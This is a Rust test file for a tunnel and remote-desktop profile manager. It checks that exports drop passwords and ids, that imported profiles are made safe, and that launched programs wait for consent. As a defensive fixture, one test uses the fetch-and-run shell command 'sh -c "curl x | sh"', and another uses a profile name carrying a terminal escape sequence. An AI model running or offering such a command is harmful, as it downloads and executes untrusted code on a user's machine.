use std::collections::BTreeMap;

use adit_contract::{FailureCode, ProfileForward, ProfileTarget};
use proptest::prelude::*;
use serde_json::Value;

use super::*;
use crate::profiles::{
    shelf::Shelf,
    tests::{Home, forward, host, profile, vm},
};

fn with(profiles: Vec<Profile>) -> Shelf {
    let mut shelf = Shelf::default();
    shelf.add_all(&[], profiles).unwrap();
    shelf
}

fn text(shelf: &Shelf) -> String {
    let profiles = shelf.profiles.iter().map(|stored| stored.profile.clone()).collect();
    own::write(shelf.folders.clone(), profiles, Vec::new()).unwrap()
}

fn launching(words: &[&str]) -> Profile {
    let ProfileAction::Forward { forward } = forward(5432) else { panic!("no forward") };
    let command = words.iter().map(|word| (*word).to_owned()).collect();
    let forward = ProfileForward { audience: TunnelAudience::Launched { command }, ..forward };
    Profile { action: ProfileAction::Forward { forward }, ..profile("db") }
}

#[test]
fn an_export_says_what_it_leaves_out_and_has_no_ids() {
    let shelf = with(vec![launching(&["psql", "--password=hunter2", "-h", "{host}"])]);
    let text = text(&shelf);
    assert!(!text.contains("hunter2") && !text.contains(&shelf.profiles[0].id), "{text}");
    assert!(text.contains("keychain") && text.contains("looked like a password"), "{text}");
    let found = own::read(text.as_bytes()).unwrap();
    let TunnelAudience::Launched { command } = (match &found.profiles[0].action {
        ProfileAction::Forward { forward } => forward.audience.clone(),
        ProfileAction::Ssh | ProfileAction::Rdp => panic!("no forward"),
    }) else {
        panic!("no program")
    };
    assert_eq!(command, ["psql", "--password=", "-h", "{host}"]);
}

#[test]
fn what_a_stranger_made_starts_by_hand_and_weakens_nothing() {
    let text = |text: &str| SettingValue::Text(text.to_owned());
    let ProfileAction::Forward { forward } = forward(80) else { panic!("no forward") };
    let forward = ProfileForward { http: HttpRule::Open, audience: TunnelAudience::Everyone, ..forward };
    let mut stranger = Profile {
        start: ProfileStart::AtLogin,
        action: ProfileAction::Forward { forward },
        ..profile("odd")
    };
    let settings = [
        ("rdp.folders", SettingValue::List(vec!["/home/ana".to_owned()])),
        ("rdp.foldersAccess", text("readWrite")),
        ("rdp.printers", SettingValue::Toggle(true)),
        ("rdp.security", text("pinnedTls")),
        ("rdp.clipboard", text("all")),
        ("rdp.port", text("no port")),
        ("app.close", text("quit")),
        ("future.key", SettingValue::Toggle(true)),
        ("rdp.sound", SettingValue::Toggle(false)),
    ];
    stranger.settings = settings.map(|(key, value)| (key.to_owned(), value)).into();
    let mut notes = Notes::default();
    tame(&mut stranger, &mut notes);
    assert_eq!(stranger.start, ProfileStart::ByHand);
    assert_eq!(stranger.settings, [("rdp.sound".to_owned(), SettingValue::Toggle(false))].into());
    let ProfileAction::Forward { forward } = &stranger.action else { panic!("no forward") };
    assert_eq!((forward.http, &forward.audience), (HttpRule::Strict, &TunnelAudience::User));
    let told = notes.told().join("\n");
    for said in [
        "at login",
        "/home/ana",
        "change files",
        "printers",
        "password",
        "clipboard",
        "rdp.port",
        "app.close",
        "future.key",
    ] {
        assert!(told.contains(said), "{said}: {told}");
    }
    assert!(told.contains("all sites") && told.contains("everyone"), "{told}");
    let many = Notes((0..70).map(|n| n.to_string()).collect()).told();
    assert_eq!((many.len(), many[49].as_str()), (50, "And 21 more."));
}

#[test]
fn a_strangers_program_is_told_whole_and_starts_once_it_is_agreed_to() {
    let home = Home::new();
    let profiles = home.open();
    let odd = serde_json::json!({"name": "odd"});
    let shell = serde_json::to_value(launching(&["sh", "-c", "curl x | sh"])).unwrap();
    let all: Vec<Value> = std::iter::repeat_n(odd, 60).chain([shell]).collect();
    let file = home.path().join("stranger.json");
    let text = serde_json::json!({"adit": "profiles", "version": 1, "profiles": all}).to_string();
    std::fs::write(&file, text).unwrap();
    let import = profiles.import(&file).unwrap();
    assert_eq!(
        (import.notes.len(), import.runs.as_slice()),
        (50, &["db: sh -c \"curl x | sh\"".to_owned()][..])
    );
    let found = profiles.list(BTreeMap::new()).profiles.remove(0);
    assert!(found.problem.unwrap().contains("curl x | sh"));
    crate::profiles::hindered(&found.profile).unwrap_err();
    // Neither a copy nor what else is changed of it is a consent.
    let copy = profiles.duplicate(std::slice::from_ref(&found.id)).unwrap().remove(0);
    profiles.set(&found.id, "rdp.port", Some(SettingValue::Number(3390))).unwrap();
    for id in [&copy, &found.id] {
        crate::profiles::hindered(&home.open().get(id).unwrap()).unwrap_err();
    }
    profiles.save(Some(&found.id), Profile { unconfirmed: None, ..found.profile }).unwrap();
    crate::profiles::hindered(&profiles.get(&found.id).unwrap()).unwrap();
}

#[test]
fn an_export_neither_replaces_our_file_nor_passes_for_it() {
    let home = Home::new();
    let profiles = home.open();
    profiles.save(None, profile("web")).unwrap();
    let odd = home.path().join(".").join("profiles.json");
    for own in [home.file(), odd] {
        assert_eq!(profiles.export(&[], &own).unwrap_err().code, FailureCode::InvalidInput);
    }
    std::fs::write(home.file(), profiles.export_text(&[]).unwrap()).unwrap();
    let again = home.open();
    assert!(again.trouble().unwrap().title.contains("export"));
    assert_eq!(again.save(None, profile("db")).unwrap_err().code, FailureCode::File);
    assert_eq!(again.import(&home.file()).unwrap_err().code, FailureCode::File);
    assert_eq!(again.export_text(&[]).unwrap_err().code, FailureCode::File);
}

#[test]
fn what_is_not_understood_is_named_in_an_export() {
    let home = Home::new();
    let file = serde_json::json!({"version": 1, "clouds": {"google": {"profiles": [{"name": "phone"}]}}});
    std::fs::write(home.file(), file.to_string()).unwrap();
    assert!(home.open().export_text(&[]).unwrap().contains("phone"));
}

#[test]
fn what_is_not_ours_is_refused_and_what_is_half_ours_is_told() {
    let later = br#"{"adit": "profiles", "version": 2, "profiles": []}"#;
    assert!(own::read(later).unwrap_err().title.contains("later version"));
    for wrong in [&b"{"[..], b"[]", br#"{"version": 1, "profiles": []}"#, br#"{"adit": "profiles"}"#, b"\xff"]
    {
        assert_eq!(own::read(wrong).unwrap_err().code, FailureCode::InvalidInput);
    }
    let good = serde_json::to_value(profile("web")).unwrap();
    let half = serde_json::json!({
        "adit": "profiles", "version": 1, "folders": [["x"], [""], [], 7],
        "profiles": [good, {"name": "odd\u{1b}[2J", "target": 7}, 3],
    });
    let found = own::read(half.to_string().as_bytes()).unwrap();
    assert_eq!((found.profiles.len(), found.folders.len()), (1, 1));
    let told = found.notes.told().join(" ");
    assert!(told.contains("\"odd[2J\" was left out") && told.contains("without a name"), "{told}");
}

#[test]
fn files_are_taken_by_their_endings_into_a_folder_of_their_name() {
    let home = Home::new();
    let profiles = home.open();
    let put = |name: &str, text: &str| {
        let path = home.path().join(name);
        std::fs::write(&path, text).unwrap();
        path
    };
    let desktop = profiles.import(&put("Books.RDP", "full address:s:books")).unwrap();
    assert_eq!((desktop.added, desktop.folder), (1, Vec::new()));
    let client = put("psql.iapc", r#"{"version": 1, "name": "psql", "remotePort": "5432"}"#);
    assert_eq!(profiles.import(&client).unwrap().added, 1);

    let out = home.path().join("out.json");
    profiles.export(&[], &out).unwrap();
    let back = profiles.import(&out).unwrap();
    assert_eq!((back.added, back.folder), (2, vec!["out".to_owned()]));
    assert_eq!(profiles.import(&out).unwrap().folder, ["out 2"]);
    let list = profiles.list(BTreeMap::new());
    assert_eq!((list.profiles.len(), list.folders.len()), (6, 2));

    let one = list.profiles[0].id.clone();
    assert!(!profiles.export_text(std::slice::from_ref(&one)).unwrap().contains("psql"));
    assert_eq!(profiles.export_text(&["gone".to_owned()]).unwrap_err().code, FailureCode::InvalidInput);
    assert_eq!(profiles.import(&home.path().join("gone.json")).unwrap_err().code, FailureCode::File);
    assert_eq!(profiles.export(&[], home.path()).unwrap_err().code, FailureCode::File);
}

#[test]
fn too_many_are_refused_all_together() {
    let home = Home::new();
    let profiles = home.open();
    let many: Vec<Profile> = (0..600).map(|n| profile(&n.to_string())).collect();
    let file = home.path().join("many.json");
    std::fs::write(&file, own::write(Vec::new(), many, Vec::new()).unwrap()).unwrap();
    assert_eq!(profiles.import(&file).unwrap().added, 600);
    assert_eq!(profiles.import(&file).unwrap_err().code, FailureCode::InvalidInput);
    let list = profiles.list(BTreeMap::new());
    assert_eq!((list.profiles.len(), list.folders.len()), (600, 1));
}

fn any_profile() -> impl Strategy<Value = Profile> {
    let name = "[a-zA-Z0-9éü]{1,20}";
    let target = prop_oneof![
        "[a-z]{1,10}".prop_map(|name| ProfileTarget::Instance { instance: vm(&name) }),
        ".{0,60}".prop_filter_map("no control characters", |text: String| {
            (!text.chars().any(char::is_control)).then_some(ProfileTarget::Search { text })
        }),
    ];
    let action =
        prop_oneof![Just(ProfileAction::Ssh), Just(ProfileAction::Rdp), (1_u16..).prop_map(forward),];
    let account = proptest::option::of("[a-z]{1,9}@acme\\.example");
    let port = proptest::option::of(1_u32..65_536);
    let start = prop_oneof![Just(ProfileStart::ByHand), Just(ProfileStart::AtLogin)];
    let folder = proptest::collection::vec(name, 0..4);
    (name, folder, target, action, account, port, start).prop_map(
        |(name, folder, target, action, account, port, start)| {
            let port = port.map(|port| ("rdp.port".to_owned(), SettingValue::Number(port)));
            let settings: BTreeMap<_, _> = port.into_iter().collect();
            Profile { name, folder, target, action, account, settings, start, unconfirmed: None }
        },
    )
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]
    #[test]
    fn what_is_exported_comes_back(profiles in proptest::collection::vec(any_profile(), 0..8)) {
        let host = Profile { target: host(), action: forward(23), ..profile("host") };
        let shelf = with(profiles.into_iter().chain([host]).collect());
        let found = own::read(text(&shelf).as_bytes()).unwrap();
        let wanted: Vec<Profile> = shelf.profiles.into_iter().map(|stored| stored.profile).collect();
        prop_assert_eq!(found.profiles, wanted);
        prop_assert_eq!(found.folders, shelf.folders);
    }
}
